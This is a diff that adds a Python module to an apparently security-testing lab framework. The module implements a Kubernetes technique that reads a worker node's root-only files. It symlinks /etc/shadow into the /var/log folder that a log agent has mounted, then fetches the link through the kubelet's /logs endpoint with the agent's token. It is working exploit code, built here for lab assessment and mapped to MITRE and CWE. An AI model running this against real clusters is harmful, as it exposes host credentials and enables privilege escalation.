@@ -1,0 +1,147 @@
+"""Read any file of a worker through the kubelet's logs, by a link that leads out of them.
+
+The kubelet serves /var/log as root and follows symbolic links. Whoever may write there, as the
+agents that collect logs often may, and get ``nodes/log``, reads what only root may.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import secrets
+from typing import TYPE_CHECKING
+
+from labkit.cluster.source import is_true
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.model.rights import Action, bearer_at_kubelet, may_at_kubelet
+from labkit.model.workloads import mounted, token_caller, token_in, user_of
+from labkit.techniques._ask import ask
+from labkit.techniques._base import POD, Prediction, Technique
+from labkit.techniques._kubelet import CHANNEL, kubelet_url
+from labkit.techniques._pod import find_pod, from_pod, token_of
+from labkit.techniques._reach import Answer, digest, run
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.cluster import Environment
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+AGENT = ("monitoring", "agent")
+KUBELET, WORKER = "kubelet@worker1", "worker1"
+LOGS, ONLY_ROOT_READS = "/var/log", "/etc/shadow"
+#: The kubelet serves no logs without the first, and not the machine's without the second.
+HANDLERS = ("enableDebuggingHandlers", "enableSystemLogHandler")
+ACTION = Action("get", "nodes/log", name=WORKER)
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: the folder, its owner, the kubelet's rights, then its handlers."""
+    env, kubelet = view.env, view.env.component(KUBELET)
+    folder, user = mounted(env, *AGENT, LOGS), user_of(env, *AGENT)
+    if folder.value != "writable":
+        return Prediction(False, (str(folder),))
+    if user.value != "0":
+        return Prediction(False, (f"{LOGS} is root's: {user.source}",))
+    agent = token_caller(env, *AGENT)
+    if agent is None:
+        return Prediction(False, (str(token_in(env, *AGENT)),))
+    claim = may_at_kubelet(env, kubelet, bearer_at_kubelet(env, kubelet, agent), ACTION)
+    if claim.value != "allowed":
+        return Prediction(False, (str(claim),))
+    handlers = [kubelet.setting(name) for name in HANDLERS]
+    for handler in handlers:
+        if not is_true(handler.value):
+            return Prediction(False, (str(handler.source),))
+    return Prediction(True, (str(folder), str(claim), *(str(h.source) for h in handlers)))
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Link to a file from the agent's pod, and ask the kubelet for the link."""
+    pod, link = find_pod(lab, *AGENT), f"labkit-{secrets.token_hex(4)}"
+    folder = mounted(lab.environment, *AGENT, LOGS)
+    truth = digest(lab, WORKER, ONLY_ROOT_READS)
+    try:
+        if refused := _link(lab, foothold, folder.detail if folder.value != "none" else "", link):
+            return refused
+        token = token_of(lab, pod)
+        if token is None:
+            raise ProbeError("the agent has no token, and it should")
+
+        def proof(answer: Answer) -> str:
+            if hashlib.sha256(answer.body).hexdigest() != truth:
+                raise ProbeError(f"the kubelet answered, but not with {ONLY_ROOT_READS}")
+            return f"read: {ONLY_ROOT_READS} of {WORKER}; the right bytes by their hash"
+
+        return ask(
+            lab,
+            TECHNIQUE.name,
+            foothold,
+            kubelet_url(lab, f"/logs/{link}"),
+            options=["--header", f"Authorization: Bearer {token}"],
+            telling=("HTTP 405",),
+            shown=f"GET /logs/LINK at {WORKER}",
+            proof=proof,
+            control=lambda: _answers(lab, token),
+        )
+    finally:
+        run(lab, WORKER, ["rm", "-f", f"{LOGS}/{link}"])
+
+
+def _link(lab: Lab, foothold: str, folder: str, link: str) -> Verdict | None:
+    """Make the link from within the pod; return a verdict where it cannot be made."""
+    pod = find_pod(lab, *AGENT)
+    if folder:
+        path = pod.path(f"{folder}/{link}")
+        output = from_pod(lab, pod, ["ln", "--symbolic", ONLY_ROOT_READS, path])
+        if not output.exit_code:
+            return None
+        words = ("Permission denied", "Read-only file system")
+        reason = next((word.lower() for word in words if word in output.error), "")
+    else:
+        found = from_pod(lab, pod, ["ls", pod.path("/machine")])
+        reason = "" if not found.exit_code else f"{LOGS} is not in the pod"
+    if not reason:
+        raise ProbeError("the link was neither made nor refused")
+    run(lab, WORKER, ["ln", "--symbolic", ONLY_ROOT_READS, f"{LOGS}/{link}"], check=True)
+    asked = (f"tried to link to {ONLY_ROOT_READS} from {LOGS}, in monitoring/agent",)
+    control = "root on the worker makes the same link"
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, asked, control)
+
+
+def _answers(lab: Lab, token: str) -> str:
+    """Show, after a refusal, that the kubelet serves the same token something else."""
+    header = ["--header", f"Authorization: Bearer {token}"]
+    argv = ["curl", "--silent", "--show-error", "--fail", "--insecure", "--output", "/dev/null"]
+    run(lab, WORKER, [*argv, *header, kubelet_url(lab, "/metrics")], check=True)
+    return "with the same token, the kubelet tells its metrics"
+
+
+def _settings(env: Environment) -> list[Setting]:
+    folder, handler = mounted(env, *AGENT, LOGS), env.component(KUBELET).setting(HANDLERS[1])
+    return [
+        (f"{LOGS} in monitoring/agent", folder.value, str(folder.source)),
+        ("whether the kubelet serves the machine's logs", handler.value, str(handler.source)),
+    ]
+
+
+TECHNIQUE = Technique(
+    name="kubelet-log-symlink",
+    title="Read any file of a worker through the kubelet's logs",
+    footholds=(POD,),
+    grants=(),
+    about=CHANNEL,
+    properties=("authorization",),
+    attack=("T1611", "T1552.001"),
+    stride=("information disclosure", "elevation of privilege"),
+    cwe=("CWE-59", "CWE-61"),
+    sources=(
+        "https://blog.aquasec.com/kubernetes-security-pod-escape-log-mounts",
+        "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath",
+        "https://attack.mitre.org/techniques/T1611/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
